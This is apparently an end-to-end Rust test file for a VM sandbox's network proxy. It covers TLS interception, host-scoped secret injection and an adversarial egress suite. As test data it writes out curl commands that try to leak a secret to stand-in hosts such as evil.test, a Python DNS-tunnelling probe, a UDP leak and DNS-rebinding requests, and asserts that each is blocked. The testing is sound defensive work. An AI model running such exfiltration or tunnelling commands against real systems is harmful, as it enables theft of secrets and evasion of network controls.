//! End to end: HTTP/TLS interception, secrets in flight and the adversarial suite, with real
//! clients (Debian's curl and python3 in the `nettest` image) in a real VM whose owner sits
//! in a network namespace with only a veth to the test host (`common/nethost.rs`), so no
//! packet can leave this machine. The owner trusts the test host's CA through
//! `SSL_CERT_FILE`; the guest trusts the sandbox's own interception CA.
//!
//! One sandbox serves most checks (allow-list `web.test`, `api.test`, `*.web.test` and a
//! secret scoped to `api.test`); a second one shows that two sandboxes holding the same
//! secret name with different values never mix them up, and that `--add-host` cannot steer
//! an intercepted name. Every "never arrived" assertion reads the test host's logs, and the
//! harness test in `e2e_net.rs` is the control that shows such traffic would be logged.

mod common;
#[path = "common/nethost.rs"]
mod nethost;

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use common::{env, ok, stderr, stdout};
use nethost::NetHost;

const SECRET: &str = "s3cr3t-value-for-api";
/// The sandbox CA alone, and the image's system bundle plus the CA (in the guest).
const CA_FILE: &str = "/etc/ssl/certs/matchlock-ca.crt";
const CA_BUNDLE: &str = "/etc/ssl/certs/matchlock-bundle.crt";

fn start(net: &NetHost, image: &str, args: &[&str], secret: &str) -> String {
    let e = env();
    let mut run = e.cmd();
    run.args(["run", "--image", image, "-d"])
        .args(args)
        .env("API_TOKEN", secret)
        .env("MATCHLOCK_LOG", "warn,matchlock_net=info");
    ok(&net.wrap(run).output().expect("run -d"))
        .trim()
        .to_string()
}

/// Runs `script` in the guest and returns its output (asserting success when `want_ok`).
#[track_caller]
fn sh(id: &str, script: &str, want_ok: bool) -> String {
    nethost::guest_sh(env(), id, script, want_ok)
}

#[test]
fn interception_secrets_and_adversarial_cases() {
    let e = env();
    let image = nethost::nettest_image(e);
    let net = NetHost::new();
    let id = start(
        &net,
        image,
        &[
            "--allow-host",
            "web.test,*.web.test",
            "--secret",
            "API_TOKEN@api.test",
        ],
        SECRET,
    );
    let _guard = e.guard(&id);

    // HTTPS through the proxy: the guest verifies the sandbox CA (SSL_CERT_FILE points at
    // the bundle), the owner verifies the test host; HTTP/2 is negotiated on both sides.
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w ' %{http_version}' 'https://web.test/tls?q=1'",
        true,
    );
    assert!(out.ends_with(" 2"), "guest side is HTTP/2: {out}");
    let r = &net.requests("https", "/tls")[0];
    assert_eq!(r["sni"], "web.test");
    assert_eq!(r["version"], "HTTP/2.0", "{r}");
    assert_eq!(r["query"], "q=1");
    // The system bundle still verifies TLS the proxy does not touch, and the sandbox CA is
    // in it as well as in its own file.
    let n = sh(
        &id,
        "busybox grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/matchlock-bundle.crt",
        true,
    );
    assert!(
        n.trim().parse::<u32>().unwrap_or(0) > 100,
        "system roots + CA: {n}"
    );
    sh(
        &id,
        "busybox cmp /etc/ssl/certs/matchlock-bundle.crt /etc/ssl/certs/ca-certificates.crt",
        true,
    );
    // The variables common TLS clients read name files holding the sandbox CA: the bundle
    // (OpenSSL, requests, curl), the CA alone for Node (which adds it to its own roots).
    let ca = sh(&id, &format!("cat {CA_FILE}"), true);
    assert!(
        ca.starts_with("-----BEGIN CERTIFICATE-----\n")
            && ca.ends_with("-----END CERTIFICATE-----\n"),
        "{ca}"
    );
    let out = sh(
        &id,
        "for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS; do \
         f=$(printenv $v); echo \"@@$v=$f\"; cat \"$f\"; done",
        true,
    );
    let seen: Vec<(String, bool)> = out
        .split("@@")
        .skip(1)
        .map(|c| {
            let (head, body) = c.split_once('\n').unwrap_or((c, ""));
            (head.to_string(), body.contains(&ca))
        })
        .collect();
    let want: Vec<(String, bool)> = [
        ("SSL_CERT_FILE", CA_BUNDLE),
        ("REQUESTS_CA_BUNDLE", CA_BUNDLE),
        ("CURL_CA_BUNDLE", CA_BUNDLE),
        ("NODE_EXTRA_CA_CERTS", CA_FILE),
    ]
    .iter()
    .map(|(k, v)| (format!("{k}={v}"), true))
    .collect();
    assert_eq!(seen, want, "(variable=file, file holds the CA)");
    // Plain HTTP, HTTP/1.1 keep-alive: two requests on one connection.
    let out = sh(
        &id,
        "curl -sS --max-time 30 http://web.test/one http://web.test/two -o /dev/null -o /dev/null -w '%{num_connects} '",
        true,
    );
    assert_eq!(out.trim(), "1 0", "keep-alive reused the connection: {out}");
    assert_eq!(net.requests("http", "/one").len(), 1);
    // SSE arrives as it is produced (three events 300 ms apart).
    let out = sh(
        &id,
        "curl -sSN --max-time 30 http://web.test/sse | while read -r l; do [ -n \"$l\" ] && echo \"$(date +%s%N) $l\"; done; true",
        true,
    );
    let stamps: Vec<u128> = out
        .lines()
        .filter_map(|l| l.split_once(' ')?.0.parse().ok())
        .collect();
    assert!(stamps.len() >= 3, "{out}");
    let spread_ms = (stamps[stamps.len() - 1] - stamps[0]) / 1_000_000;
    assert!(
        spread_ms >= 300,
        "events arrived together ({spread_ms} ms): {out}"
    );

    // Secret: the guest holds a placeholder; the real value reaches api.test in a header
    // and in the query, never the guest.
    let ph = sh(&id, "printf %s \"$API_TOKEN\"", true);
    assert!(
        ph.starts_with("SANDBOX_SECRET_") && !ph.contains(SECRET),
        "{ph}"
    );
    // (The test host echoes requests, so the body it returns holds the value: an upstream
    // that reflects a secret reveals it, which no proxy can prevent; not read here.)
    sh(
        &id,
        "curl -sS --max-time 30 -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" \"https://api.test/v1?key=$API_TOKEN\"",
        true,
    );
    let r = &net.requests("https", "/v1")[0];
    assert_eq!(r["headers"]["authorization"], format!("Bearer {SECRET}"));
    assert_eq!(r["query"], format!("key={SECRET}"));

    // Adversarial: the placeholder toward a host it is not scoped to, in a header, the
    // path or the query: 403 and nothing sent.
    for (n, cmd) in [
        ("hdr", "curl -sS --max-time 30 -w '%{http_code}' -H \"X-Leak: $API_TOKEN\" https://web.test/leak-hdr"),
        ("path", "curl -sS --max-time 30 -w '%{http_code}' \"https://web.test/leak-path/$API_TOKEN\""),
        ("query", "curl -sS --max-time 30 -w '%{http_code}' \"http://web.test/leak-query?t=$API_TOKEN\""),
    ] {
        let out = sh(&id, cmd, true);
        assert!(out.ends_with("403"), "{n}: {out}");
        assert!(out.contains("Blocked by policy"), "{n}: {out}");
    }
    for log in ["http", "https"] {
        let text = net.log_text(log);
        assert!(!text.contains("leak-"), "{log}: {text}");
        assert!(
            !text.contains(&ph),
            "{log}: the placeholder arrived: {text}"
        );
    }
    // A host outside the allow-list does not resolve in the guest (NXDOMAIN); even when the
    // guest supplies the address itself (`--resolve`), the proxy refuses: 403, nothing
    // arrives (HTTP, and HTTPS over HTTP/2).
    let out = sh(&id, "curl -sS --max-time 30 http://evil.test/", false);
    assert!(out.contains("Could not resolve host"), "{out}");
    for url in ["http://evil.test/evil-plain", "https://evil.test/evil-tls"] {
        let out = sh(
            &id,
            &format!(
                "curl -sS --max-time 30 -w '%{{http_code}}' --resolve evil.test:80:198.51.100.2 \
                 --resolve evil.test:443:198.51.100.2 {url}"
            ),
            true,
        );
        assert!(out.ends_with("403"), "{url}: {out}");
    }
    // Host header vs SNI: TLS to web.test carrying `Host: evil.test` is judged by the Host.
    let out = sh(
        &id,
        "curl -sS --http1.1 --max-time 30 -w '%{http_code}' -H 'Host: evil.test' https://web.test/mismatch",
        true,
    );
    assert!(out.ends_with("403"), "{out}");
    // The IP literal of an allowed host is not the host.
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w '%{http_code}' http://198.51.100.2/by-ip",
        true,
    );
    assert!(out.ends_with("403"), "{out}");
    // CONNECT tunnels are refused.
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w '%{http_code}' -p -x http://web.test:80 http://evil.test/tunnel",
        false,
    );
    assert!(out.contains("403"), "{out}");
    for log in ["http", "https"] {
        let text = net.log_text(log);
        for p in ["evil-", "mismatch", "by-ip", "tunnel"] {
            assert!(!text.contains(p), "{p} reached the test host: {text}");
        }
    }
    // Upstream with an untrusted certificate (TLS on 8443 is intercepted too): 502, no
    // data from it.
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w '%{http_code}' https://web.test:8443/untrusted",
        true,
    );
    assert!(out.ends_with("502"), "{out}");
    assert!(!out.contains("\"method\""), "{out}");
    // The gateway address is never the host's loopback.
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w '%{http_code}' http://10.0.2.2/gw",
        true,
    );
    assert!(out.ends_with("403"), "{out}");

    // DNS: names off the allow-list are NXDOMAIN at the owner (any type), allowed ones are
    // resolved on the host.
    sh(&id, "getent hosts web.test", true);
    sh(&id, "getent hosts exfil-data.evil.test", false);
    let py = "import socket,struct,os\n\
              q=os.urandom(2)+b'\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n\
              q+=b''.join(bytes([len(p)])+p for p in b'tunnel-bits.evil.test'.split(b'.'))+b'\\x00\\x00\\x10\\x00\\x01'\n\
              s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(10); s.sendto(q,('198.51.100.2',53))\n\
              r=s.recv(4096); print('rcode', r[3]&15)\n\
              t=socket.create_connection(('198.51.100.2',53),10); t.sendall(struct.pack('>H',len(q))+q)\n\
              n=struct.unpack('>H',t.recv(2))[0]; r=t.recv(n); print('tcp-rcode', r[3]&15)\n";
    let out = sh(&id, &format!("python3 -c \"{py}\""), true);
    assert!(
        out.contains("rcode 3") && out.contains("tcp-rcode 3"),
        "{out}"
    );
    let dns = net.log_text("dns");
    assert!(
        !dns.contains("exfil-data") && !dns.contains("tunnel-bits"),
        "{dns}"
    );
    // UDP other than DNS never leaves.
    sh(
        &id,
        "python3 -c \"import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'udp-leak',('198.51.100.2',9))\"",
        true,
    );
    // Raw TCP: an address the owner's DNS answered to the guest for an allowed name
    // (web.test) is reachable on other ports (spliced; not TLS); an address no allowed name
    // resolved to gets an immediate RST (a connect the policy let through would wait for
    // the missing host's ARP instead).
    let out = sh(
        &id,
        "python3 -c \"import socket; s=socket.create_connection(('198.51.100.2',7),10); s.sendall(b'raw-ok'); print(s.recv(64).decode())\"",
        true,
    );
    assert!(out.contains("raw-ok"), "{out}");
    // Timed around connect() alone, inside one process: a client's own start-up under a
    // loaded host once took >2 s of a shell-measured bound (curl refused after 36 ms).
    let out = sh(
        &id,
        "python3 -c \"import socket,time\nt=time.monotonic()\ntry:\n  socket.create_connection(('198.51.100.3',7),30)\n  print('connected')\nexcept ConnectionRefusedError:\n  print('refused ms=%d' % ((time.monotonic()-t)*1000))\"",
        true,
    );
    assert!(out.contains("refused ms="), "{out}");
    let ms: u64 = out
        .split("ms=")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|s| s.parse().ok())
        .unwrap_or(u64::MAX);
    assert!(ms < 2000, "{out}");

    // The allow-list changes at run time: evil.test becomes reachable.
    let out = ok(&e.run(&["allow-list", "add", &id, "evil.test"]));
    assert!(out.contains("Added to"), "{out}");
    let out = sh(
        &id,
        "curl -sS --max-time 30 https://evil.test/now-allowed",
        true,
    );
    assert!(out.contains("now-allowed"), "{out}");
    assert_eq!(net.requests("https", "/now-allowed").len(), 1);
    assert!(!net.log_text("udp").contains("udp-leak"));
    // Allow-listed names whose DNS answers are blocked addresses (private, loopback,
    // metadata): the owner checks the address it would dial, so 403 and nothing arrives.
    ok(&e.run(&[
        "allow-list",
        "add",
        &id,
        "private.test,loopback.test,metadata.test",
    ]));
    // (loopback.test answers 127.0.0.1, which a guest reaches as its own loopback.)
    sh(
        &id,
        "curl -sS --max-time 30 https://loopback.test/rebind",
        false,
    );
    for url in ["http://private.test/rebind", "https://metadata.test/rebind"] {
        let out = sh(
            &id,
            &format!("curl -sS --max-time 30 -w '%{{http_code}}' {url}"),
            true,
        );
        assert!(out.ends_with("403"), "{url}: {out}");
    }
    for log in ["http", "https"] {
        assert!(
            !net.log_text(log).contains("rebind"),
            "{}",
            net.log_text(log)
        );
    }

    // Events: requests and refusals, in the event log, without the secret.
    let events = ok(&e.run(&["log", "--events", &id]));
    assert!(
        events.contains(r#""url":"https://web.test/tls""#),
        "{events}"
    );
    assert!(events.contains(r#""blocked":true"#), "{events}");
    assert!(!events.contains(SECRET), "{events}");

    // The CA's key lives in the owner's memory only; its certificate is the observable
    // proxy: no host file under HOME (state, logs, image and snapshot caches) holds it but
    // the guest's own writable disk, where the guest wrote it into /etc/ssl/certs. After a
    // guest `sync` that disk is the control: the search must find the certificate there.
    let marker = ca.lines().nth(1).expect("PEM body");
    assert_eq!(marker.len(), 64, "{ca}");
    sh(&id, "sync", true);
    let upper = e.state_dir().join("vms").join(&id).join("upper.ext4");
    assert_eq!(files_containing(e.home.path(), marker), [upper]);
    // The owner listens on no TCP or UDP port of its network namespace (the guest's link
    // is a unix socket).
    let owner = e.owner_pid(&id);
    assert_eq!(inet_listeners(owner), Vec::<String>::new(), "owner {owner}");
    e.kill_and_rm(&id);
}

/// Regular files under `dir` (symlinks not followed, special files skipped; GNU grep skips
/// the holes of sparse disks) that contain `needle`.
fn files_containing(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let o = std::process::Command::new("grep")
        .args(["-rlF", "-D", "skip", "-s", "-e", needle])
        .arg(dir)
        .output()
        .expect("run grep");
    assert!(o.status.code().is_some(), "grep: {}", stderr(&o));
    stdout(&o).lines().map(PathBuf::from).collect()
}

/// The lines of `/proc/<pid>/net/{tcp,tcp6,udp,udp6}` (the process's network namespace)
/// that are the process's own TCP listeners (state 0A) or bound UDP sockets.
fn inet_listeners(pid: u32) -> Vec<String> {
    let proc = PathBuf::from(format!("/proc/{pid}"));
    let inodes: HashSet<String> = std::fs::read_dir(proc.join("fd"))
        .expect("the owner's fds")
        .flatten()
        .filter_map(|f| {
            let link = std::fs::read_link(f.path()).ok()?;
            let inode = link.to_str()?.strip_prefix("socket:[")?.strip_suffix(']')?;
            Some(inode.to_string())
        })
        .collect();
    assert!(!inodes.is_empty(), "pid {pid} holds no socket at all");
    let mut found = Vec::new();
    for table in ["tcp", "tcp6", "udp", "udp6"] {
        let text = std::fs::read_to_string(proc.join("net").join(table)).expect(table);
        for line in text.lines().skip(1) {
            // sl local_address rem_address st tx:rx tr:tm retrnsmt uid timeout inode …
            let f: Vec<&str> = line.split_whitespace().collect();
            let bound = table.starts_with("udp") || f.get(3) == Some(&"0A");
            if bound && f.get(9).is_some_and(|i| inodes.contains(*i)) {
                found.push(format!("{table}: {line}"));
            }
        }
    }
    found
}

#[test]
fn same_secret_name_two_sandboxes_and_add_host_steering() {
    let e = env();
    let image = nethost::nettest_image(e);
    let net = NetHost::new();
    // Both start at once and make their requests at once, each with its own proxy, CA and
    // secret value (reference 13.2 #127/#128).
    // b maps api.test to a forbidden address in its own /etc/hosts: the owner re-resolves
    // the name itself, so the request still goes to the real api.test.
    let b_args = [
        "--secret",
        "API_TOKEN@api.test",
        "--add-host",
        "api.test:10.11.12.13",
    ];
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(|| {
            start(
                &net,
                image,
                &["--secret", "API_TOKEN@api.test"],
                "value-of-a",
            )
        });
        let b = s.spawn(|| start(&net, image, &b_args, "value-of-b"));
        (a.join().expect("start a"), b.join().expect("start b"))
    });
    let _ga = e.guard(&a);
    let _gb = e.guard(&b);
    let (ca_a, ca_b) = (
        sh(&a, &format!("cat {CA_FILE}"), true),
        sh(&b, &format!("cat {CA_FILE}"), true),
    );
    assert!(
        ca_a.contains("BEGIN CERTIFICATE") && ca_a != ca_b,
        "one CA per sandbox"
    );
    std::thread::scope(|s| {
        for (id, path) in [(&a, "/from-a"), (&b, "/from-b")] {
            s.spawn(move || {
                sh(
                    id,
                    &format!(
                        "curl -sS --max-time 30 -H \"X-Token: $API_TOKEN\" https://api.test{path}"
                    ),
                    true,
                )
            });
        }
    });
    assert_eq!(
        net.requests("https", "/from-a")[0]["headers"]["x-token"],
        "value-of-a"
    );
    let rb = &net.requests("https", "/from-b")[0];
    assert_eq!(rb["headers"]["x-token"], "value-of-b");
    // It arrived at the real address; nothing went to the steering address.
    assert_eq!(rb["local"], "198.51.100.2:443", "{rb}");
    for log in ["http", "https"] {
        assert!(
            net.log(log).iter().all(|r| !r["local"]
                .as_str()
                .is_some_and(|l| l.starts_with("10.11.12.13"))),
            "{}",
            net.log_text(log)
        );
    }
    e.kill_and_rm(&a);
    e.kill_and_rm(&b);
}
